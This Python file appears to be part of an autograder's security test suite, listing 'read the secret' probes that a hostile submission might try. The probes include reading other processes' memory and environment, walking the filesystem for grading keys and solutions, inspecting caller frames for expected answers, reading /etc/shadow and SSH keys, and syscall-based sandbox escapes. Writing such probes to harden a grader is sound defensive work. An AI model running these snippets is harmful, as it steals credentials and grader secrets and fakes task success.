"""What must be hidden is looked for: files, memory, frames, whatever was left by others."""

from autograder.authoring.hostile.attack import family

READ_THE_SECRET = family(
    "read the secret",
    imports_the_autograder="""
        import importlib
        for name in ("autograder", "autograder.checks.ising", "autograder.judging.judge", "checks"):
            try:
                module = importlib.import_module(name)
            except ImportError: continue
            # The empty folder that covers an installed package can be imported, too, and is no file.
            if getattr(module, "__file__", None): leak(module)
    """,
    imports_the_reference="""
        for name in ("ising", "mcmc", "boltzmann_machines", "enumeration"):
            try:
                module = __import__("ebmkit." + name, fromlist=["x"])
                leak(module)
            except ImportError: pass
    """,
    reads_the_repository_through_the_editable_install="""
        import glob, pathlib, sys
        for site in sys.path:
            for pth in glob.glob(site + "/*.pth"):
                for line in open(pth).read().splitlines():
                    for wanted in ("autograder/checks", "solutions", "course", "ebmkit/ising/__init__.py"):
                        try:
                            found = pathlib.Path(line) / wanted
                            if not line or line.startswith("import") or not found.exists(): continue
                            leak(list(found.iterdir()) if found.is_dir() else found.read_text())
                        except OSError: pass
    """,
    walks_the_whole_file_system="""
        import os
        for root, dirs, files in os.walk("/"):
            if root.startswith(("/proc", "/sys")): dirs[:] = []; continue
            for f in files:
                if f in ("gradebook.db", "grading.key", "exercise.py",
                    "judge.py") and "site-packages" not in root:
                    leak(os.path.join(root, f))
            for d in dirs if "site-packages" not in root else ():
                if d in ("solutions", "submitted", "autograded"): leak(os.path.join(root, d))
    """,
    searches_installed_packages_for_checks="""
        import os, sys
        for site in sys.path:
            folder = os.path.join(site, "autograder")
            if os.path.isdir(folder) and os.listdir(folder): leak(folder)
    """,
    reads_environment_of_every_process="""
        import glob, os
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                content = open(path, "rb").read()
                if content and content != open("/proc/self/environ", "rb").read(): leak(path)
            except OSError: pass
    """,
    reads_memory_of_every_process="""
        import glob, os
        for path in glob.glob("/proc/[0-9]*/mem"):
            try:
                handle = open(path, "rb")
            except OSError: continue
            pid = int(path.split("/")[2])
            if os.readlink(f"/proc/{pid}/ns/user") != os.readlink("/proc/self/ns/user"): leak(path)
    """,
    reads_command_lines_for_paths_and_keys="""
        import glob
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            try: text = open(path).read()
            except OSError: continue
            if any(word in text for word in ("grading.key", "checks", "expected", "hmac")): leak(text)
    """,
    frames_of_the_caller="""
        import sys
        def peek(*args, **kwargs):
            frame = sys._getframe()
            while frame:
                for key, value in frame.f_locals.items():
                    if key in ("expected", "reference", "check", "exercise", "solution"): return value
                frame = frame.f_back
            return None
        answer_with(peek)
    """,
    gc_search_for_expected_values="""
        import gc
        def search(*args, **kwargs):
            for thing in gc.get_objects():
                if isinstance(thing, dict) and ("expected" in thing or "reference" in thing):
                    return thing.get("expected", thing.get("reference"))
        answer_with(search)
    """,
    history_and_inputs_of_ipython="""
        for text in In[:-1] + [str(v) for v in Out.values()]:
            if "HIDDEN" in text or "autograder" in text: leak(text)
    """,
    bytecode_and_git_history="""
        import glob
        for path in glob.glob("/**/*checks*ising*.pyc", recursive=False) + glob.glob("/**/.git/HEAD"): leak(path)
        import os
        for base in ("/", "/home", "/work", "/root", "/tmp", "/opt", "/srv", "/mnt"):
            for sub in (".git", "main/.git"):
                try: leak(os.listdir(os.path.join(base, sub)))
                except OSError: pass
    """,
    another_submissions_files="""
        import glob
        for path in glob.glob("/home/*/*") + glob.glob("/tmp/*") + glob.glob("/dev/shm/*"):
            if path not in ("/tmp/ipython", "/tmp/matplotlib"): leak(path)  # the zygote's own
    """,
    open_file_descriptors="""
        import os, socket, stat
        for fd in range(3, 256):
            try: mode = os.fstat(fd).st_mode
            except OSError: continue
            if stat.S_ISREG(mode):
                name = os.readlink(f"/proc/self/fd/{fd}")
                if any(w in name for w in ("course/", "check", "grade")): leak(name)
    """,
    files_of_other_processes="""
        import os
        for pid in others():
            for name in ("root", "cwd", "fd", "map_files", "task"):
                if name != "task" and did(lambda: os.listdir(f"/proc/{pid}/{name}") != os.listdir("/")):
                    leak((pid, name))
            for name in ("environ", "maps", "stack", "auxv"):
                if did(lambda: bool(open(f"/proc/{pid}/{name}", "rb").read(1))): leak((pid, name))
    """,
    memory_of_another_process_by_system_call="""
        import ctypes
        buffer = ctypes.create_string_buffer(64)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
        for pid in others():
            if system_call(310, 270, pid, local, 1, local, 1, 0) >= 0: leak(pid)
    """,
    descriptors_of_another_process="""
        import os
        for pid in others():
            handle = system_call(434, 434, pid, 0)
            for fd in range(32):
                if handle >= 0 and system_call(438, 438, handle, fd, 0) >= 0: leak((pid, fd))
    """,
    namespaces_of_another_process="""
        import ctypes, glob, os
        for path in glob.glob("/proc/[0-9]*/ns/*"):
            try: handle = os.open(path, os.O_RDONLY)
            except OSError: continue
            if ctypes.CDLL(None).setns(handle, 0) == 0: leak(path)
    """,
    files_by_handle_instead_of_path="""
        import ctypes
        handle = ctypes.create_string_buffer(136)
        handle[0:4] = (128).to_bytes(4, "little")
        mount = ctypes.c_int()
        if system_call(303, 264, -100, b"/usr", handle, ctypes.byref(mount), 0) == 0:
            if system_call(304, 265, -100, handle, 0) >= 0: leak("open_by_handle_at")
    """,
    folders_above_an_open_folder="""
        import os
        for start in (".", "/tmp", "/usr", "/opt/course"):
            try: handle = os.open(start, os.O_PATH | os.O_DIRECTORY)
            except OSError: continue
            for _ in range(8):
                try: handle = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=handle)
                except OSError: break
                for name in ("autograder", "solutions", "submitted", "course"):
                    if did(lambda: bool(os.listdir(os.open(name, os.O_RDONLY, dir_fd=handle)))):
                        if os.path.basename(os.readlink(f"/proc/self/fd/{handle}")) not in ("opt",): leak(name)
    """,
    modules_of_the_editable_install="""
        import glob, os, re, sys
        for place in sys.path:
            for path in glob.glob(place + "/__editable__*") + glob.glob(place + "/*.egg-link"):
                text = did(open, path) and open(path).read() or ""
                for found in re.findall(r"'(/[^']+)'", text):
                    for name in (found, found + "/checks", found + "/ising"):
                        if did(lambda: bool(os.listdir(name))): leak(name)
    """,
    metadata_of_packages_and_where_they_came_from="""
        import importlib.metadata, os
        for name in ("autograder", "ebmkit"):
            try: found = importlib.metadata.distribution(name)
            except importlib.metadata.PackageNotFoundError: continue
            for file in found.files or ():
                path = str(found.locate_file(file))
                if path.endswith(".py") and did(lambda: bool(open(path).read(1))): leak(path)
    """,
    sources_of_all_functions_in_memory="""
        import gc, inspect, types
        for thing in gc.get_objects():
            if isinstance(thing, types.CodeType | types.FunctionType):
                code = getattr(thing, "__code__", thing)
                if "/checks/" in code.co_filename or "/solutions/" in code.co_filename: leak(code.co_filename)
    """,
    temporary_folders_of_the_grader="""
        import glob, os, tempfile
        mine = os.path.realpath(os.getcwd())
        for top in {"/tmp", "/var/tmp", tempfile.gettempdir(), os.path.dirname(mine),
            os.path.dirname(os.path.dirname(mine))}:
            for path in glob.glob(os.path.join(top, "ebm*")) + glob.glob(os.path.join(top, "scratch-*")):
                if os.path.realpath(path) != mine and not mine.startswith(os.path.realpath(path)):
                    if did(lambda: bool(os.listdir(path))): leak(path)
    """,
    keys_in_the_kernels_keyrings="""
        if system_call(250, 219, 0, -3, 1) >= 0: leak("keyctl: the session's keyring")
        if system_call(248, 217, b"user", b"ebm", b"x", 1, -3) >= 0: leak("add_key")
    """,
    the_kernels_log="""
        import ctypes
        buffer = ctypes.create_string_buffer(4096)
        if ctypes.CDLL(None).klogctl(3, buffer, 4096) > 0: leak(buffer.value)
        for place in ("/dev/kmsg", "/proc/kmsg", "/sys/kernel/debug", "/sys/kernel/tracing/trace", "/proc/kcore"):
            if did(lambda: bool(open(place, "rb").read(1))): leak(place)
    """,
    homes_keys_and_configurations="""
        import glob, os
        mine = os.path.realpath(os.getcwd())
        for pattern in ("/root/*", "/root/.*", "/home/*/.*", "/home/*/*", "/etc/shadow", "/etc/ssh/*",
            "/srv/*", "/mnt/*",
                        "/var/lib/*/*", "/run/secrets/*", "/.dockerenv"):
            for path in glob.glob(pattern):
                real = os.path.realpath(path)
                if real.startswith((mine, "/home/student")) or os.path.isdir(path): continue
                if did(lambda: bool(open(path, "rb").read(1))): leak(path)
    """,
)
